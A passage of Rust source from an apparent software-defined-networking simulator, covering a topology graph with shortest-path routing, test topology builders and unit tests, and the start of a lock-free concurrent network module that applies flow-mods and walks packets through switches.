    /// Egress port on the source switch.
    pub src_port: PortNo,
    /// Destination switch.
    pub dst: DatapathId,
    /// Ingress port on the destination switch.
    pub dst_port: PortNo,
    /// Link weight for shortest-path computation (1 = hop count).
    pub weight: u32,
}

/// An undirected link identifier used by topology filters: the (smaller,
/// larger) datapath-id pair.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct LinkId(pub DatapathId, pub DatapathId);

impl LinkId {
    /// Normalizes the endpoint order so `LinkId(a, b) == LinkId(b, a)`.
    pub fn new(a: DatapathId, b: DatapathId) -> Self {
        if a <= b {
            LinkId(a, b)
        } else {
            LinkId(b, a)
        }
    }
}

impl fmt::Display for LinkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "link:{}-{}", self.0 .0, self.1 .0)
    }
}

/// The topology graph.
///
/// # Examples
///
/// ```
/// use sdnshield_netsim::topology::Topology;
/// use sdnshield_openflow::types::DatapathId;
///
/// let mut topo = Topology::new();
/// topo.add_switch(DatapathId(1), 4);
/// topo.add_switch(DatapathId(2), 4);
/// topo.connect(DatapathId(1), DatapathId(2));
/// let path = topo.shortest_path(DatapathId(1), DatapathId(2)).unwrap();
/// assert_eq!(path, vec![DatapathId(1), DatapathId(2)]);
/// ```
#[derive(Debug, Clone, Default)]
pub struct Topology {
    switches: BTreeMap<DatapathId, SwitchInfo>,
    links: Vec<Link>,
    hosts: Vec<Host>,
}

/// Static information about a switch in the topology.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SwitchInfo {
    /// The switch's datapath id.
    pub dpid: DatapathId,
    /// Ports on the switch (1-based, contiguous).
    pub ports: Vec<PortNo>,
}

impl Topology {
    /// Creates an empty topology.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a switch with `num_ports` ports numbered from 1.
    ///
    /// Re-adding an existing switch replaces its port list.
    pub fn add_switch(&mut self, dpid: DatapathId, num_ports: u16) {
        let ports = (1..=num_ports).map(PortNo).collect();
        self.switches.insert(dpid, SwitchInfo { dpid, ports });
    }

    /// Removes a switch and all its links and hosts.
    pub fn remove_switch(&mut self, dpid: DatapathId) {
        self.switches.remove(&dpid);
        self.links.retain(|l| l.src != dpid && l.dst != dpid);
        self.hosts.retain(|h| h.switch != dpid);
    }

    /// Removes the bidirectional link between two switches. Returns whether
    /// a link existed.
    pub fn remove_link(&mut self, a: DatapathId, b: DatapathId) -> bool {
        let before = self.links.len();
        self.links
            .retain(|l| !((l.src == a && l.dst == b) || (l.src == b && l.dst == a)));
        self.links.len() != before
    }

    /// Connects two switches bidirectionally on the next free port of each.
    ///
    /// Returns the (src_port, dst_port) pair used.
    ///
    /// # Panics
    ///
    /// Panics if either switch is unknown or has no free port.
    pub fn connect(&mut self, a: DatapathId, b: DatapathId) -> (PortNo, PortNo) {
        let pa = self.next_free_port(a).expect("switch a has no free port");
        let pb = self.next_free_port(b).expect("switch b has no free port");
        self.connect_on(a, pa, b, pb, 1);
        (pa, pb)
    }

    /// Connects two switches bidirectionally on explicit ports with a weight.
    pub fn connect_on(
        &mut self,
        a: DatapathId,
        pa: PortNo,
        b: DatapathId,
        pb: PortNo,
        weight: u32,
    ) {
        self.links.push(Link {
            src: a,
            src_port: pa,
            dst: b,
            dst_port: pb,
            weight,
        });
        self.links.push(Link {
            src: b,
            src_port: pb,
            dst: a,
            dst_port: pa,
            weight,
        });
    }

    /// Attaches a host to the next free port of a switch.
    ///
    /// # Panics
    ///
    /// Panics if the switch is unknown or has no free port.
    pub fn attach_host(&mut self, mac: EthAddr, ip: Ipv4, switch: DatapathId) -> PortNo {
        let port = self
            .next_free_port(switch)
            .expect("switch has no free port");
        self.hosts.push(Host {
            mac,
            ip,
            switch,
            port,
        });
        port
    }

    fn next_free_port(&self, dpid: DatapathId) -> Option<PortNo> {
        let info = self.switches.get(&dpid)?;
        let used: BTreeSet<PortNo> = self
            .links
            .iter()
            .filter(|l| l.src == dpid)
            .map(|l| l.src_port)
            .chain(
                self.hosts
                    .iter()
                    .filter(|h| h.switch == dpid)
                    .map(|h| h.port),
            )
            .collect();
        info.ports.iter().copied().find(|p| !used.contains(p))
    }

    /// All switches, in datapath-id order.
    pub fn switches(&self) -> impl Iterator<Item = &SwitchInfo> {
        self.switches.values()
    }

    /// Number of switches.
    pub fn switch_count(&self) -> usize {
        self.switches.len()
    }

    /// Looks up a switch.
    pub fn switch(&self, dpid: DatapathId) -> Option<&SwitchInfo> {
        self.switches.get(&dpid)
    }

    /// Returns `true` if the switch exists.
    pub fn contains_switch(&self, dpid: DatapathId) -> bool {
        self.switches.contains_key(&dpid)
    }

    /// All directed links.
    pub fn links(&self) -> &[Link] {
        &self.links
    }

    /// All undirected link ids (each physical link once).
    pub fn link_ids(&self) -> BTreeSet<LinkId> {
        self.links
            .iter()
            .map(|l| LinkId::new(l.src, l.dst))
            .collect()
    }

    /// All hosts.
    pub fn hosts(&self) -> &[Host] {
        &self.hosts
    }

    /// Finds the host with the given MAC.
    pub fn host_by_mac(&self, mac: EthAddr) -> Option<&Host> {
        self.hosts.iter().find(|h| h.mac == mac)
    }

    /// Finds the host with the given IP.
    pub fn host_by_ip(&self, ip: Ipv4) -> Option<&Host> {
        self.hosts.iter().find(|h| h.ip == ip)
    }

    /// The link leaving `dpid` on `port`, if that port is an inter-switch
    /// link.
    pub fn link_from(&self, dpid: DatapathId, port: PortNo) -> Option<&Link> {
        self.links
            .iter()
            .find(|l| l.src == dpid && l.src_port == port)
    }

    /// The directed link from `a` to `b`, if adjacent.
    pub fn link_between(&self, a: DatapathId, b: DatapathId) -> Option<&Link> {
        self.links.iter().find(|l| l.src == a && l.dst == b)
    }

    /// Neighbors of a switch.
    pub fn neighbors(&self, dpid: DatapathId) -> impl Iterator<Item = DatapathId> + '_ {
        self.links
            .iter()
            .filter(move |l| l.src == dpid)
            .map(|l| l.dst)
    }

    /// Unweighted shortest path (hop count) between two switches, inclusive
    /// of both endpoints. `None` when unreachable.
    pub fn shortest_path(&self, from: DatapathId, to: DatapathId) -> Option<Vec<DatapathId>> {
        if !self.switches.contains_key(&from) || !self.switches.contains_key(&to) {
            return None;
        }
        if from == to {
            return Some(vec![from]);
        }
        let mut prev: BTreeMap<DatapathId, DatapathId> = BTreeMap::new();
        let mut queue = VecDeque::new();
        queue.push_back(from);
        let mut seen = BTreeSet::new();
        seen.insert(from);
        while let Some(cur) = queue.pop_front() {
            for next in self.neighbors(cur) {
                if seen.insert(next) {
                    prev.insert(next, cur);
                    if next == to {
                        return Some(reconstruct(&prev, from, to));
                    }
                    queue.push_back(next);
                }
            }
        }
        None
    }

    /// Weighted shortest path (Dijkstra over link weights), inclusive of
    /// both endpoints. `None` when unreachable.
    pub fn shortest_path_weighted(
        &self,
        from: DatapathId,
        to: DatapathId,
    ) -> Option<(Vec<DatapathId>, u64)> {
        if !self.switches.contains_key(&from) || !self.switches.contains_key(&to) {
            return None;
        }
        let mut dist: BTreeMap<DatapathId, u64> = BTreeMap::new();
        let mut prev: BTreeMap<DatapathId, DatapathId> = BTreeMap::new();
        let mut heap = BinaryHeap::new();
        dist.insert(from, 0);
        heap.push(std::cmp::Reverse((0u64, from)));
        while let Some(std::cmp::Reverse((d, cur))) = heap.pop() {
            if cur == to {
                return Some((reconstruct(&prev, from, to), d));
            }
            if d > *dist.get(&cur).unwrap_or(&u64::MAX) {
                continue;
            }
            for link in self.links.iter().filter(|l| l.src == cur) {
                let nd = d + link.weight as u64;
                if nd < *dist.get(&link.dst).unwrap_or(&u64::MAX) {
                    dist.insert(link.dst, nd);
                    prev.insert(link.dst, cur);
                    heap.push(std::cmp::Reverse((nd, link.dst)));
                }
            }
        }
        None
    }
}

fn reconstruct(
    prev: &BTreeMap<DatapathId, DatapathId>,
    from: DatapathId,
    to: DatapathId,
) -> Vec<DatapathId> {
    let mut path = vec![to];
    let mut cur = to;
    while cur != from {
        cur = prev[&cur];
        path.push(cur);
    }
    path.reverse();
    path
}

/// Builders for common test topologies.
pub mod builders {
    use super::*;

    /// A linear chain of `n` switches, each with one host:
    /// `h1 - s1 - s2 - … - sn - hn` (hosts on every switch).
    ///
    /// Host `i` (1-based) gets MAC `00:…:0i` and IP `10.0.0.i`.
    pub fn linear(n: usize) -> Topology {
        let mut topo = Topology::new();
        for i in 1..=n {
            topo.add_switch(DatapathId(i as u64), 8);
        }
        for i in 1..n {
            topo.connect(DatapathId(i as u64), DatapathId(i as u64 + 1));
        }
        for i in 1..=n {
            topo.attach_host(
                EthAddr::from_u64(i as u64),
                Ipv4::new(10, 0, 0, i as u8),
                DatapathId(i as u64),
            );
        }
        topo
    }

    /// A star: one core switch with `n` edge switches, one host per edge.
    pub fn star(n: usize) -> Topology {
        let mut topo = Topology::new();
        let core = DatapathId(1);
        topo.add_switch(core, (n + 2) as u16);
        for i in 0..n {
            let edge = DatapathId(2 + i as u64);
            topo.add_switch(edge, 8);
            topo.connect(core, edge);
            topo.attach_host(
                EthAddr::from_u64(i as u64 + 1),
                Ipv4::new(10, 0, 0, i as u8 + 1),
                edge,
            );
        }
        topo
    }

    /// A two-level spine-leaf fabric: `spines` core switches, `leaves` edge
    /// switches (every leaf connects to every spine), `hosts_per_leaf` hosts
    /// on each leaf. Spines get dpids 1..=spines; leaves follow.
    ///
    /// Host j (0-based) of leaf i gets MAC `(i+1)<<8 | (j+1)` and IP
    /// `10.(i+1).0.(j+1)`.
    pub fn spine_leaf(spines: usize, leaves: usize, hosts_per_leaf: usize) -> Topology {
        let mut topo = Topology::new();
        for s in 1..=spines {
            topo.add_switch(DatapathId(s as u64), (leaves + 2) as u16);
        }
        for l in 0..leaves {
            let dpid = DatapathId((spines + 1 + l) as u64);
            topo.add_switch(dpid, (spines + hosts_per_leaf + 2) as u16);
            for s in 1..=spines {
                topo.connect(DatapathId(s as u64), dpid);
            }
            for h in 0..hosts_per_leaf {
                topo.attach_host(
                    EthAddr::from_u64((((l + 1) as u64) << 8) | (h as u64 + 1)),
                    Ipv4::new(10, (l + 1) as u8, 0, (h + 1) as u8),
                    dpid,
                );
            }
        }
        topo
    }

    /// A full mesh of `n` switches with one host each. Used to stress path
    /// diversity (route-hijack experiments need ≥ 2 disjoint paths).
    pub fn mesh(n: usize) -> Topology {
        let mut topo = Topology::new();
        for i in 1..=n {
            topo.add_switch(DatapathId(i as u64), (n + 4) as u16);
        }
        for i in 1..=n {
            for j in (i + 1)..=n {
                topo.connect(DatapathId(i as u64), DatapathId(j as u64));
            }
        }
        for i in 1..=n {
            topo.attach_host(
                EthAddr::from_u64(i as u64),
                Ipv4::new(10, 0, 0, i as u8),
                DatapathId(i as u64),
            );
        }
        topo
    }
}

#[cfg(test)]
mod tests {
    use super::builders::*;
    use super::*;

    #[test]
    fn linear_topology_shape() {
        let t = linear(4);
        assert_eq!(t.switch_count(), 4);
        assert_eq!(t.hosts().len(), 4);
        // 3 physical links = 6 directed links.
        assert_eq!(t.links().len(), 6);
        assert_eq!(t.link_ids().len(), 3);
    }

    #[test]
    fn shortest_path_linear() {
        let t = linear(5);
        let p = t.shortest_path(DatapathId(1), DatapathId(5)).unwrap();
        assert_eq!(p.len(), 5);
        assert_eq!(p[0], DatapathId(1));
        assert_eq!(p[4], DatapathId(5));
        assert_eq!(
            t.shortest_path(DatapathId(3), DatapathId(3)).unwrap(),
            vec![DatapathId(3)]
        );
    }

    #[test]
    fn shortest_path_unreachable() {
        let mut t = linear(2);
        t.add_switch(DatapathId(99), 4);
        assert!(t.shortest_path(DatapathId(1), DatapathId(99)).is_none());
        assert!(t.shortest_path(DatapathId(1), DatapathId(1000)).is_none());
    }

    #[test]
    fn weighted_path_prefers_light_links() {
        let mut t = Topology::new();
        for i in 1..=3 {
            t.add_switch(DatapathId(i), 4);
        }
        // Direct heavy link 1-3, light detour via 2.
        t.connect_on(DatapathId(1), PortNo(1), DatapathId(3), PortNo(1), 10);
        t.connect_on(DatapathId(1), PortNo(2), DatapathId(2), PortNo(1), 1);
        t.connect_on(DatapathId(2), PortNo(2), DatapathId(3), PortNo(2), 1);
        let (path, cost) = t
            .shortest_path_weighted(DatapathId(1), DatapathId(3))
            .unwrap();
        assert_eq!(path, vec![DatapathId(1), DatapathId(2), DatapathId(3)]);
        assert_eq!(cost, 2);
        // Unweighted BFS takes the direct hop.
        let hop = t.shortest_path(DatapathId(1), DatapathId(3)).unwrap();
        assert_eq!(hop, vec![DatapathId(1), DatapathId(3)]);
    }

    #[test]
    fn star_topology_paths_via_core() {
        let t = star(4);
        let p = t.shortest_path(DatapathId(2), DatapathId(5)).unwrap();
        assert_eq!(p, vec![DatapathId(2), DatapathId(1), DatapathId(5)]);
    }

    #[test]
    fn mesh_is_single_hop() {
        let t = mesh(4);
        for i in 1..=4u64 {
            for j in 1..=4u64 {
                if i != j {
                    let p = t.shortest_path(DatapathId(i), DatapathId(j)).unwrap();
                    assert_eq!(p.len(), 2);
                }
            }
        }
    }

    #[test]
    fn host_lookup() {
        let t = linear(3);
        let h = t.host_by_ip(Ipv4::new(10, 0, 0, 2)).unwrap();
        assert_eq!(h.switch, DatapathId(2));
        assert_eq!(
            t.host_by_mac(EthAddr::from_u64(3)).unwrap().ip,
            Ipv4::new(10, 0, 0, 3)
        );
        assert!(t.host_by_ip(Ipv4::new(9, 9, 9, 9)).is_none());
    }

    #[test]
    fn link_port_mapping() {
        let t = linear(2);
        let l = t.link_between(DatapathId(1), DatapathId(2)).unwrap();
        assert_eq!(
            t.link_from(DatapathId(1), l.src_port).unwrap().dst,
            DatapathId(2)
        );
    }

    #[test]
    fn remove_switch_cleans_up() {
        let mut t = linear(3);
        t.remove_switch(DatapathId(2));
        assert_eq!(t.switch_count(), 2);
        assert!(t.shortest_path(DatapathId(1), DatapathId(3)).is_none());
        assert_eq!(t.hosts().len(), 2);
    }

    #[test]
    fn link_id_is_undirected() {
        assert_eq!(
            LinkId::new(DatapathId(2), DatapathId(1)),
            LinkId::new(DatapathId(1), DatapathId(2))
        );
    }

    #[test]
    fn spine_leaf_shape() {
        let t = spine_leaf(2, 3, 4);
        assert_eq!(t.switch_count(), 5);
        assert_eq!(t.hosts().len(), 12);
        // Each leaf connects to each spine: 6 physical links.
        assert_eq!(t.link_ids().len(), 6);
        // Leaf-to-leaf goes via a spine: 3 hops inclusive.
        let p = t.shortest_path(DatapathId(3), DatapathId(4)).unwrap();
        assert_eq!(p.len(), 3);
        assert!(p[1].0 <= 2, "middle hop is a spine");
        // Host addressing is as documented.
        let h = t.host_by_ip(Ipv4::new(10, 2, 0, 3)).unwrap();
        assert_eq!(h.switch, DatapathId(4));
        assert_eq!(h.mac, EthAddr::from_u64((2 << 8) | 3));
    }

    #[test]
    fn free_port_allocation_skips_used() {
        let mut t = Topology::new();
        t.add_switch(DatapathId(1), 2);
        t.add_switch(DatapathId(2), 2);
        let (pa, _) = t.connect(DatapathId(1), DatapathId(2));
        assert_eq!(pa, PortNo(1));
        let hp = t.attach_host(EthAddr::from_u64(1), Ipv4::new(10, 0, 0, 1), DatapathId(1));
        assert_eq!(hp, PortNo(2));
    }
}
