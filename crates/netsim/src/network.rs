//! The data-plane walk: injecting packets and carrying them hop by hop
//! through switch flow tables until they reach hosts or the controller.
//!
//! # Concurrency
//!
//! The network's **read side is lock-free**: the topology and a per-switch
//! [`SwitchView`] are published as immutable `Arc` snapshots through epoch
//! RCU cells ([`crossbeam::epoch::RcuCell`]). Readers pin an epoch, do one
//! atomic pointer load, and never block; stats queries, topology reads and
//! flow counts are all served from snapshots.
//!
//! Writers still serialize per switch: each switch's mutable state sits
//! behind its own [`Mutex`] and every mutation bumps that shard's version
//! counter under the lock. Switch views refresh **lazily**: the first
//! reader that observes a stale version rebuilds the view under an
//! opportunistic `try_lock` (copy-on-write of the touched shard — `Arc`
//! pointer clones, no deep copies) and republishes it; if a writer holds
//! the lock the reader serves the previous view instead. Reads are
//! therefore *snapshot-trailing*: bounded by the mutations of whichever
//! writer currently holds the shard lock, and exact whenever the shard is
//! quiescent. Topology mutations clone-and-publish eagerly (they are rare)
//! under a small writer mutex.
//!
//! Lock ordering: **at most one switch lock at a time**, and the RCU cells
//! are outside the ranked lock set entirely (pinning never blocks). The
//! data-plane walk releases a switch's lock before following a link into
//! the next switch (`step` computes the forwarding decision under the
//! lock, then recurses lock-free), so concurrent walks in opposite
//! directions cannot deadlock. Cross-switch sweeps (`advance_clock`,
//! `remove_flows_owned_by`) visit switches one at a time in ascending dpid
//! order.

use std::collections::BTreeMap;
use std::fmt;
use std::ops::{Deref, DerefMut};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use crossbeam::epoch::{self, RcuCell};
use parking_lot::{Mutex, MutexGuard, RwLock};
use sdnshield_openflow::flow_table::RemovedEntry;
use sdnshield_openflow::messages::{
    FlowMod, OfError, PacketIn, PacketInReason, PacketOut, StatsReply, StatsRequest,
};
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::types::{BufferId, DatapathId, EthAddr, PortNo};

use crate::switch::{Forwarding, SimSwitch, SwitchView};
use crate::topology::{Host, Topology};

/// Maximum hops a single injected packet may traverse before the simulator
/// declares a forwarding loop and drops it.
pub const MAX_HOPS: usize = 64;

/// Where a packet ended up after a data-plane walk.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Delivery {
    /// Delivered to a host NIC.
    ToHost {
        /// MAC of the receiving host.
        mac: EthAddr,
        /// The frame as received.
        frame: EthernetFrame,
    },
    /// Punted to the controller as a packet-in.
    ToController {
        /// Switch that punted.
        dpid: DatapathId,
        /// The packet-in body.
        packet_in: PacketIn,
    },
    /// Dropped: matched a drop rule, exited a dangling port, or hit the hop
    /// limit.
    Dropped {
        /// Switch where the drop happened.
        dpid: DatapathId,
        /// Why it dropped.
        reason: DropReason,
    },
}

/// Why a packet was dropped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DropReason {
    /// A flow entry with no forwarding action.
    DropRule,
    /// Output port had neither a link nor a host.
    DanglingPort,
    /// Hop budget exhausted (forwarding loop).
    LoopGuard,
}

/// Controller→switch traffic mirrored to a wire-attached backend.
///
/// The in-process simulator *executes* flow-mods and packet-outs directly
/// against [`SimSwitch`] state. A real switch speaking OpenFlow over TCP
/// additionally needs those messages **on the wire**: the southbound
/// reactor registers one `WireEgress` per connected datapath, and the
/// network calls it after the corresponding simulator mutation succeeds —
/// the shard stays the source of truth (flow counts, reaping, stats) while
/// the egress mirrors the decision to the remote peer.
///
/// Contract: implementations must be cheap and non-blocking (queue +
/// counted shed, never a socket write in the caller's thread beyond a
/// nonblocking push), and must **not** call back into [`Network`] — the
/// notification runs after the shard lock is dropped but callbacks
/// re-entering the network would re-order the lock ranks.
pub trait WireEgress: Send + Sync {
    /// A flow-mod the kernel successfully applied for this switch.
    fn flow_mod(&self, fm: &FlowMod);
    /// A packet-out the kernel emitted at this switch.
    fn packet_out(&self, po: &PacketOut);
}

/// A removed flow entry along with the switch it was removed from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemovedFlow {
    /// The switch.
    pub dpid: DatapathId,
    /// The entry and removal reason.
    pub removed: RemovedEntry,
}

/// The simulated network: topology + live switch state + virtual clock.
///
/// # Examples
///
/// ```
/// use sdnshield_netsim::network::Network;
/// use sdnshield_netsim::topology::builders;
///
/// let net = Network::new(builders::linear(3), 1024);
/// assert_eq!(net.topology().switch_count(), 3);
/// ```
pub struct Network {
    /// The topology snapshot; replaced wholesale on (rare) mutation.
    topology: RcuCell<Topology>,
    /// Serializes topology writers (readers never touch it).
    topo_writer: Mutex<()>,
    switches: BTreeMap<DatapathId, SwitchShard>,
    clock: AtomicU64,
    /// Wire backends keyed by datapath, consulted *after* a simulator
    /// mutation succeeds. Registration is rare (connection setup/teardown);
    /// the hot path takes only the read lock, and skips even that when the
    /// count says nobody is attached.
    wire: RwLock<BTreeMap<DatapathId, Arc<dyn WireEgress>>>,
    wire_count: AtomicU64,
}

/// One switch's slot: the mutable state under its own lock, plus the
/// lazily refreshed RCU view readers serve from.
struct SwitchShard {
    sw: Mutex<SimSwitch>,
    /// Bumped under `sw`'s lock after every mutation; a published view is
    /// fresh iff its recorded version equals this counter.
    version: AtomicU64,
    view: RcuCell<SwitchView>,
}

impl fmt::Debug for Network {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Network")
            .field("switches", &self.switches.len())
            .field("clock", &self.now())
            .finish_non_exhaustive()
    }
}

impl Network {
    /// Builds a network over a topology, giving every switch the same
    /// flow-table capacity.
    pub fn new(topology: Topology, table_capacity: usize) -> Self {
        let switches = topology
            .switches()
            .map(|s| {
                let sw = SimSwitch::new(s.dpid, table_capacity);
                let view = RcuCell::new(Arc::new(sw.view(0)));
                (
                    s.dpid,
                    SwitchShard {
                        sw: Mutex::new(sw),
                        version: AtomicU64::new(0),
                        view,
                    },
                )
            })
            .collect();
        Network {
            topology: RcuCell::new(Arc::new(topology)),
            topo_writer: Mutex::new(()),
            switches,
            clock: AtomicU64::new(0),
            wire: RwLock::new(BTreeMap::new()),
            wire_count: AtomicU64::new(0),
        }
    }

    /// Attaches a wire backend to a switch. Controller→switch messages for
    /// `dpid` are mirrored to `egress` from then on. Returns `false` (and
    /// registers nothing) when the datapath does not exist in the topology —
    /// wire peers may only claim datapaths the network models, so the
    /// simulator shard remains authoritative for state queries.
    pub fn register_wire_egress(&self, dpid: DatapathId, egress: Arc<dyn WireEgress>) -> bool {
        if !self.switches.contains_key(&dpid) {
            return false;
        }
        let prev = self.wire.write().insert(dpid, egress);
        if prev.is_none() {
            self.wire_count.fetch_add(1, Ordering::Release);
        }
        true
    }

    /// Detaches the wire backend for `dpid` (connection teardown). Returns
    /// whether one was attached.
    pub fn deregister_wire_egress(&self, dpid: DatapathId) -> bool {
        let removed = self.wire.write().remove(&dpid).is_some();
        if removed {
            self.wire_count.fetch_sub(1, Ordering::Release);
        }
        removed
    }

    /// Number of currently attached wire backends.
    pub fn wire_egress_count(&self) -> usize {
        self.wire_count.load(Ordering::Acquire) as usize
    }

    /// Does the topology model this datapath? The southbound reactor uses
    /// this to validate a peer's claimed datapath id during the handshake.
    pub fn has_switch(&self, dpid: DatapathId) -> bool {
        self.switches.contains_key(&dpid)
    }

    fn notify_wire_flow_mod(&self, dpid: DatapathId, fm: &FlowMod) {
        if self.wire_count.load(Ordering::Acquire) == 0 {
            return;
        }
        if let Some(eg) = self.wire.read().get(&dpid) {
            eg.flow_mod(fm);
        }
    }

    /// Mirrors a packet-out to the wire backend for `dpid`, if one is
    /// attached. Public because the kernel's CBench absorb mode skips
    /// [`Network::inject_packet_out`] entirely (no data-plane walk) yet the
    /// remote switch still needs its reply on the wire.
    pub fn notify_wire_packet_out(&self, dpid: DatapathId, po: &PacketOut) {
        if self.wire_count.load(Ordering::Acquire) == 0 {
            return;
        }
        if let Some(eg) = self.wire.read().get(&dpid) {
            eg.packet_out(po);
        }
    }

    /// The current topology snapshot (lock-free; one epoch pin + pointer
    /// load). The returned `Arc` stays valid across later mutations, which
    /// publish a *new* snapshot rather than changing this one.
    pub fn topology(&self) -> Arc<Topology> {
        self.topology.load_full()
    }

    /// Mutates the topology (controller-initiated changes): clones the
    /// current snapshot, applies `f`, and publishes the result. Writers
    /// serialize on a dedicated mutex; readers never block.
    pub fn with_topology_mut<R>(&self, f: impl FnOnce(&mut Topology) -> R) -> R {
        let _w = self.topo_writer.lock();
        let mut topo = (*self.topology.load_full()).clone();
        let r = f(&mut topo);
        self.topology.store(Arc::new(topo));
        r
    }

    /// Runs `f` on a switch's mutable state under its lock and bumps the
    /// shard version so the published view refreshes on the next read.
    fn with_switch_mut<R>(shard: &SwitchShard, f: impl FnOnce(&mut SimSwitch) -> R) -> R {
        let mut sw = shard.sw.lock();
        let r = f(&mut sw);
        shard.version.fetch_add(1, Ordering::Release);
        r
    }

    /// A fresh-enough view of a switch. Lock-free when the published view
    /// is current; otherwise the first reader rebuilds it under an
    /// opportunistic `try_lock` and republishes. If a writer holds the
    /// shard lock, the previous view is served instead (snapshot-trailing
    /// read, bounded by that writer's in-flight mutations).
    fn view(shard: &SwitchShard) -> Arc<SwitchView> {
        let current = shard.version.load(Ordering::Acquire);
        let view = shard.view.load_full();
        if view.version == current {
            return view;
        }
        match shard.sw.try_lock() {
            Some(sw) => {
                // Exact under the lock: no writer can bump concurrently.
                let v = shard.version.load(Ordering::Acquire);
                let fresh = Arc::new(sw.view(v));
                shard.view.store(fresh.clone());
                fresh
            }
            None => view,
        }
    }

    /// Republishes the RCU view of each listed switch if it is stale — the
    /// group-commit combiner calls this once per drained batch (ascending,
    /// deduplicated dpids) so readers trailing a write burst find a fresh
    /// published view instead of each racing to rebuild one under
    /// `try_lock`. Unknown dpids are ignored; fresh views cost one atomic
    /// load.
    pub fn publish_views(&self, dpids: impl IntoIterator<Item = DatapathId>) {
        for dpid in dpids {
            let Some(shard) = self.switches.get(&dpid) else {
                continue;
            };
            if shard.view.load_full().version == shard.version.load(Ordering::Acquire) {
                continue;
            }
            let sw = shard.sw.lock();
            // Exact under the lock: no writer can bump concurrently.
            let v = shard.version.load(Ordering::Acquire);
            shard.view.store(Arc::new(sw.view(v)));
        }
    }

    /// Current virtual time in seconds.
    pub fn now(&self) -> u64 {
        self.clock.load(Ordering::SeqCst)
    }

    /// Sets the virtual clock directly without expiring anything — recovery
    /// support for restoring a snapshotted network to its recorded time. The
    /// expiry side effects of the skipped interval are assumed to be carried
    /// by the snapshot itself.
    pub fn set_clock(&self, now: u64) {
        self.clock.store(now, Ordering::SeqCst);
    }

    /// Advances the virtual clock and expires timed-out entries everywhere.
    /// Switches are visited one at a time (ascending dpid), so concurrent
    /// flow-mods on other switches proceed unhindered.
    pub fn advance_clock(&self, secs: u64) -> Vec<RemovedFlow> {
        let now = self.clock.fetch_add(secs, Ordering::SeqCst) + secs;
        let mut removed = Vec::new();
        for (dpid, shard) in &self.switches {
            let expired = {
                let mut sw = shard.sw.lock();
                let expired = sw.expire(now);
                if !expired.is_empty() {
                    shard.version.fetch_add(1, Ordering::Release);
                }
                expired
            };
            for r in expired {
                removed.push(RemovedFlow {
                    dpid: *dpid,
                    removed: r,
                });
            }
        }
        removed
    }

    /// Removes, from every switch, all flow entries whose cookie carries the
    /// given owner id. Used to reclaim a crashed app's rules. Takes one
    /// switch lock at a time in ascending dpid order.
    pub fn remove_flows_owned_by(&self, owner: u16) -> Vec<RemovedFlow> {
        let mut removed = Vec::new();
        for (dpid, shard) in &self.switches {
            let reclaimed = {
                let mut sw = shard.sw.lock();
                let reclaimed = sw.remove_owned_by(owner);
                if !reclaimed.is_empty() {
                    shard.version.fetch_add(1, Ordering::Release);
                }
                reclaimed
            };
            for r in reclaimed {
                removed.push(RemovedFlow {
                    dpid: *dpid,
                    removed: r,
                });
            }
        }
        removed
    }

    /// Locks one switch for inspection or mutation. Dropping the guard
    /// bumps the shard version, so any mutation made through it is picked
    /// up by the next view rebuild.
    pub fn switch(&self, dpid: DatapathId) -> Option<SwitchGuard<'_>> {
        self.switches.get(&dpid).map(|shard| SwitchGuard {
            guard: shard.sw.lock(),
            version: &shard.version,
        })
    }

    /// Number of installed flow entries on a switch, served from the RCU
    /// view (lock-free when the view is fresh).
    pub fn flow_count(&self, dpid: DatapathId) -> Option<usize> {
        self.switches.get(&dpid).map(|s| Self::view(s).table.len())
    }

    /// The RCU view of one switch (refreshing it first if stale and the
    /// shard lock is free) — the lock-free read surface for stats, flow
    /// counts, and the differential test suite.
    pub fn switch_view(&self, dpid: DatapathId) -> Option<Arc<SwitchView>> {
        self.switches.get(&dpid).map(Self::view)
    }

    /// Applies a flow-mod on a switch, taking only that switch's lock.
    ///
    /// # Errors
    ///
    /// [`OfError::BadRequest`] for unknown switches; table errors otherwise.
    pub fn apply_flow_mod(
        &self,
        dpid: DatapathId,
        fm: &FlowMod,
    ) -> Result<Vec<RemovedEntry>, OfError> {
        let now = self.now();
        let shard = self
            .switches
            .get(&dpid)
            .ok_or_else(|| OfError::BadRequest(format!("unknown switch {dpid}")))?;
        let removed = Self::with_switch_mut(shard, |sw| sw.apply_flow_mod(fm, now))?;
        // Mirror to the wire after the shard mutation commits (and after its
        // lock is released): the remote switch sees exactly the flow-mods
        // the authoritative simulator state accepted.
        self.notify_wire_flow_mod(dpid, fm);
        Ok(removed)
    }

    /// Answers a stats request for a switch from its RCU view — lock-free
    /// on the common path (see [`Network::switch_view`] for the staleness
    /// contract).
    ///
    /// # Errors
    ///
    /// [`OfError::BadRequest`] for unknown switches.
    pub fn stats(&self, dpid: DatapathId, req: &StatsRequest) -> Result<StatsReply, OfError> {
        let shard = self
            .switches
            .get(&dpid)
            .ok_or_else(|| OfError::BadRequest(format!("unknown switch {dpid}")))?;
        let now = self.now();
        Ok(Self::view(shard).stats(req, now))
    }

    /// Injects a frame from a host NIC; returns every terminal delivery.
    ///
    /// # Errors
    ///
    /// [`OfError::BadRequest`] when the source MAC is not an attached host.
    pub fn inject_from_host(&self, frame: EthernetFrame) -> Result<Vec<Delivery>, OfError> {
        let host = {
            let guard = epoch::pin();
            self.topology
                .load(&guard)
                .host_by_mac(frame.src)
                .cloned()
                .ok_or_else(|| OfError::BadRequest("source MAC is not an attached host".into()))?
        };
        Ok(self.walk(host.switch, host.port, frame))
    }

    /// Injects a controller packet-out at a switch: applies `actions` and
    /// walks the results through the network.
    ///
    /// # Errors
    ///
    /// [`OfError::BadRequest`] for unknown switches.
    pub fn inject_packet_out(
        &self,
        dpid: DatapathId,
        in_port: PortNo,
        frame: EthernetFrame,
        actions: impl IntoIterator<Item = sdnshield_openflow::actions::Action>,
    ) -> Result<Vec<Delivery>, OfError> {
        let actions: Vec<_> = actions.into_iter().collect();
